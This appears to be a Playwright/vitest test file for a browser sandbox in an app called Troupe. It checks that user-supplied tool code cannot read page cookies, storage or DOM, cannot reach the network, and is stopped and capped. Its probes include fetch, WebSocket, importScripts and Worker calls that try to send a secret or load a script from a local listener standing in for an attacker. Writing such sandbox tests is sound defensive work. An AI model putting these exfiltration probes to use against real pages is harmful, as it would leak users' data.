// The hand-written tool sandbox in real Chromium, on the built page (the page's own app, consent and
// Test path): a tool's code cannot read the page (parent.document), its IndexedDB, localStorage or
// cookies, cannot reach any address (fetch, WebSocket, importScripts, a nested Worker — the listening
// server must see nothing), is stopped after its time limit while the page stays usable, and its
// result is capped. Code that was not allowed does not run at all.
import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { launchBrowser } from './browser.ts';
import { servePage } from './page.ts';

let browser: Browser;
let server: Awaited<ReturnType<typeof servePage>>;
let listener: Server;
let leak = '';
const seen: string[] = [];
let page: Page;

beforeAll(async () => {
  listener = createServer((req, res) => {
    seen.push(`${req.method} ${req.url}`);
    res.setHeader('access-control-allow-origin', '*');
    res.end('{"leaked":true}');
  });
  listener.on('upgrade', (req, socket) => {
    seen.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
  const port = (listener.address() as { port: number }).port;
  leak = `http://127.0.0.1:${port}`;
  [server, browser] = await Promise.all([servePage(), launchBrowser()]);
  page = await browser.newPage();
  page.on('pageerror', (e) => console.error('page error:', e));
  await page.goto(server.url);
  await page.getByRole('textbox', { name: 'Message' }).waitFor();
  // The app (globalThis.troupe) loads after the first paint; its panel shows once it has.
  await page.locator('.troupe-panel').waitFor();
  // The page holds data a tool must not reach.
  await page.evaluate(() => {
    document.cookie = 'troupe_secret=cookie-value; path=/';
    localStorage.setItem('troupe-secret', 'local-value');
    document.title = 'PAGE-SECRET-TITLE';
  });
});
afterAll(async () => {
  await browser?.close();
  await server?.close();
  await new Promise((r) => listener?.close(r));
});

type Result = { ok: true; value: unknown; ms: number } | { ok: false; error: string; code?: string };

/** Allows `code` (as a user would after reading it) and runs it once through the Test path. */
async function run(code: string, sample = '{}', allow = true): Promise<Result> {
  return page.evaluate(
    async ([code, sample, allow]) => {
      const app = (
        globalThis as unknown as { troupe: { handWrittenTools: { allow(c: string): Promise<void>; test(t: unknown, s: string): Promise<unknown> } } }
      ).troupe;
      const tool = { name: 'probe', description: 'A probe.', parameters: { type: 'object', properties: {} }, code, sample };
      if (allow) await app.handWrittenTools.allow(code);
      return app.handWrittenTools.test(tool, sample);
    },
    [code, sample, allow] as const,
  ) as Promise<Result>;
}

const caught = (expr: string) => `try { return { got: ${expr} }; } catch (e) { return { error: String(e && e.name || e) }; }`;

test('the tool gets its arguments and returns JSON data', async () => {
  expect(await run('return { sum: args.a + args.b, who: typeof window };', '{"a": 2, "b": 3}')).toMatchObject({
    ok: true,
    value: { sum: 5, who: 'undefined' },
  });
});

test('code that was not allowed does not run', async () => {
  const r = await run(`await fetch("${leak}/not-allowed"); return 1;`, '{}', false);
  expect(r).toMatchObject({ ok: false, code: 'needs_consent' });
  await new Promise((r) => setTimeout(r, 300));
  expect(seen).toEqual([]);
});

test('it cannot read the page: no parent.document, no DOM, no title', async () => {
  const r = await run(caught('parent.document.title'));
  expect(r).toMatchObject({ ok: true, value: { error: 'ReferenceError' } });
  const r2 = await run(caught('self.parent === undefined && typeof document === "undefined" && typeof top === "undefined"'));
  expect(r2).toMatchObject({ ok: true, value: { got: true } });
  expect(JSON.stringify(await run('return [self.name, self.origin, String(self.location)];'))).not.toContain('PAGE-SECRET-TITLE');
  expect(await run('return self.origin;')).toMatchObject({ ok: true, value: 'null' });
});

test('it cannot read the page’s IndexedDB, localStorage or cookies', async () => {
  // The page's own databases exist (Troupe keeps its data there).
  const dbs = await page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name));
  expect(dbs.some((n) => n?.startsWith('troupe-'))).toBe(true);
  const idb = await run(`try { const names = await indexedDB.databases(); return { names }; } catch (e) { return { error: e.name }; }`);
  expect(idb).toMatchObject({ ok: true, value: { error: 'SecurityError' } });
  const open = await run(
    `return await new Promise((res) => { try { const r = indexedDB.open("troupe-settings"); r.onsuccess = () => res("opened"); r.onerror = () => res("error"); } catch (e) { res(e.name); } });`,
  );
  expect(open).toMatchObject({ ok: true, value: 'SecurityError' });
  expect(await run(caught('localStorage.getItem("troupe-secret")'))).toMatchObject({ ok: true, value: { error: 'ReferenceError' } });
  expect(await run('return [typeof document, typeof cookieStore, typeof caches === "undefined" ? "none" : "caches"];')).toMatchObject({
    ok: true,
    value: ['undefined', 'undefined', expect.any(String)],
  });
  const cache = await run(`try { await caches.keys(); return "read"; } catch (e) { return e.name; }`);
  expect(cache).toMatchObject({ ok: true, value: expect.not.stringMatching(/^read$/) });
});

test('it cannot reach any address: fetch, WebSocket, importScripts, a nested Worker, EventSource', async () => {
  const fetchR = await run(`try { await fetch("${leak}/fetch?secret=1"); return "fetched"; } catch (e) { return e.name; }`);
  expect(fetchR).toMatchObject({ ok: true, value: 'TypeError' });
  const pageOrigin = await run(`try { await fetch("${server.url}"); return "fetched"; } catch (e) { return e.name; }`);
  expect(pageOrigin).toMatchObject({ ok: true, value: 'TypeError' });
  await run(
    `try { const ws = new WebSocket("${leak.replace('http', 'ws')}/ws"); await new Promise((r) => { ws.onerror = r; ws.onopen = r; setTimeout(r, 500); }); return ws.readyState; } catch (e) { return e.name; }`,
  );
  const imp = await run(`try { importScripts("${leak}/script.js"); return "imported"; } catch (e) { return e.name; }`);
  expect(imp).toMatchObject({ ok: true, value: 'NetworkError' });
  const nested = await run(`try { new Worker("${leak}/worker.js"); return "made"; } catch (e) { return e.name; }`);
  expect(nested).toMatchObject({ ok: true, value: 'SecurityError' });
  await run(
    `try { const es = new EventSource("${leak}/events"); await new Promise((r) => { es.onerror = r; setTimeout(r, 300); }); es.close(); return "done"; } catch (e) { return e.name; }`,
  );
  expect(await run(caught('eval("1 + 1")'))).toMatchObject({ ok: true, value: { error: 'EvalError' } });
  await new Promise((r) => setTimeout(r, 300));
  expect(seen).toEqual([]);
});

test('it is stopped after its time limit; the page stays usable and the next call works', async () => {
  const started = Date.now();
  const r = await run('while (true) {}');
  const took = Date.now() - started;
  expect(r).toMatchObject({ ok: false, code: 'timeout' });
  expect(took).toBeLessThan(3000 + 2000);
  expect(await page.evaluate(() => 6 * 7)).toBe(42);
  expect(await run('return "alive";')).toMatchObject({ ok: true, value: 'alive' });
});

test('its output is capped, and errors come back as errors', async () => {
  expect(await run('return "x".repeat(100000);')).toMatchObject({ ok: false, code: 'output_too_large' });
  expect(await run('throw new RangeError("bad sides");')).toMatchObject({ ok: false, code: 'threw', error: expect.stringContaining('RangeError: bad sides') });
  expect(await run('return {')).toMatchObject({ ok: false, code: 'syntax' });
});
